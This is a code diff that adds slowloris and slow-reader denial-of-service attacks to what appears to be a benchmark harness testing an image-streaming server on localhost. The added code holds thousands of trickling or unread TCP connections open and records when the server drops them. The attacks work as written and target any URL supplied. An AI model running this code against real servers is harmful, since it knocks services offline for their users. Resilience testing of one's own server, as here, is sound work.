@@ -6,10 +6,15 @@
  *   model  POSTs of model= with 100,000 precinct bins each (the model memory bomb)
  *   cnew   four loops opening channels as fast as they can (session-table exhaustion)
  *   ws     one WebSocket sending 10,000 requests of 60 KB without reading (queue growth)
+ *   loris  --sockets N (default 2000) connections that send a partial request head, then one header
+ *          line every 5 s, reopened when the server closes them (slowloris)
+ *   stall  --sockets N (default 400) connections that each pipeline 4 requests for a whole 4096²
+ *          frame (~1.7 MB each) and never read (slow readers)
  *
  * Usage: node --import tsx native-free-bench/attacks.ts --url http://127.0.0.1:18190 --pid N
- *          [--seconds 15] [--attacks model,cnew,ws] [--clients 16]
+ *          [--seconds 15] [--attacks model,cnew,ws,loris,stall] [--clients 16] [--sockets N]
  */
+import * as net from 'node:net';
 import WebSocket from 'ws';
 import { runLoad, type LoadResult } from './loadgen.js';
 import { cliArgs } from './lib/cli.js';
@@ -24,6 +29,19 @@ const seconds = Number(a.get('seconds') ?? 15);
 const clients = Number(a.get('clients') ?? 16);
 const attacks = (a.get('attacks') ?? 'model,cnew,ws').split(',');
 const TARGET = 'gray4096.jp2';
+const sockets = a.get('sockets') === undefined ? undefined : Number(a.get('sockets'));
+const { hostname, port } = new URL(url);
+
+/** A raw TCP connection to the server, resolved once connected. */
+function connect(): Promise<net.Socket> {
+  return new Promise((resolve, reject) => {
+    const s = net.connect({ host: hostname, port: Number(port) }, () => resolve(s));
+    s.once('error', reject);
+  });
+}
+
+/** Median of a non-empty list. */
+const median = (xs: number[]): number => [...xs].sort((p, q) => p - q)[Math.floor(xs.length / 2)] ?? NaN;
 
 const honest = (): Promise<LoadResult> => runLoad({ url, name: 'random', clients, durationS: seconds, len: 32768, pid });
 
@@ -89,6 +107,72 @@ const ATTACKS: Record<string, Attack> = {
     await new Promise((r) => setTimeout(r, 1000));
     sock.terminate();
     return `${sent} requests of 60 KB sent without reading; ${code ? `closed by the server with ${code}` : 'still open'}`;
+  },
+  async loris(stop) {
+    const n = sockets ?? 2000;
+    const lifetimes: number[] = [];
+    let opened = 0;
+    let refused = 0;
+    const open = new Set<net.Socket>();
+    // Each slot keeps one trickling connection open; when the server closes it, a new one replaces it.
+    const slot = async (): Promise<void> => {
+      while (!stop()) {
+        let s: net.Socket;
+        try {
+          s = await connect();
+        } catch {
+          refused++;
+          await new Promise((r) => setTimeout(r, 500));
+          continue;
+        }
+        opened++;
+        open.add(s);
+        const t0 = Date.now();
+        s.on('error', () => {});
+        s.resume();
+        s.write(`GET /${TARGET}?type=jpp-stream&fsiz=64,64 HTTP/1.1\r\nHost: 127.0.0.1\r\n`);
+        await new Promise<void>((resolve) => {
+          const tick = setInterval(() => {
+            if (stop()) {
+              clearInterval(tick);
+              s.destroy();
+            } else s.write(`X-Slow-${Date.now() % 1000}: 1\r\n`);
+          }, 5000);
+          s.once('close', () => {
+            clearInterval(tick);
+            open.delete(s);
+            if (!stop()) lifetimes.push((Date.now() - t0) / 1000);
+            resolve();
+          });
+        });
+      }
+    };
+    await Promise.all(Array.from({ length: n }, slot));
+    for (const s of open) s.destroy();
+    return `${n} trickling connections (${opened} opened, ${refused} connect failures); closed by the server after median ${median(lifetimes).toFixed(1)} s (max ${Math.max(...lifetimes).toFixed(1)} s, ${lifetimes.length} closes)`;
+  },
+  async stall(stop) {
+    const n = sockets ?? 400;
+    const socks: net.Socket[] = [];
+    let closedByServer = 0;
+    let failed = 0;
+    const req = (i: number): string => `GET /movie.jpx?type=jpp-stream&stream=${i % 60}&fsiz=4096,4096&len=2000000 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`;
+    for (let i = 0; i < n && !stop(); i++) {
+      try {
+        const s = await connect();
+        s.on('error', () => {});
+        s.once('close', () => closedByServer++);
+        s.pause(); // never read
+        s.write(req(i) + req(i + 1) + req(i + 2) + req(i + 3));
+        socks.push(s);
+      } catch {
+        failed++;
+      }
+    }
+    while (!stop()) await new Promise((r) => setTimeout(r, 200));
+    const closed = closedByServer;
+    for (const s of socks) s.destroy();
+    return `${socks.length} connections × 4 pipelined whole-frame requests, none read (${failed} connect failures); ${closed} closed by the server meanwhile`;
   },
 };
 
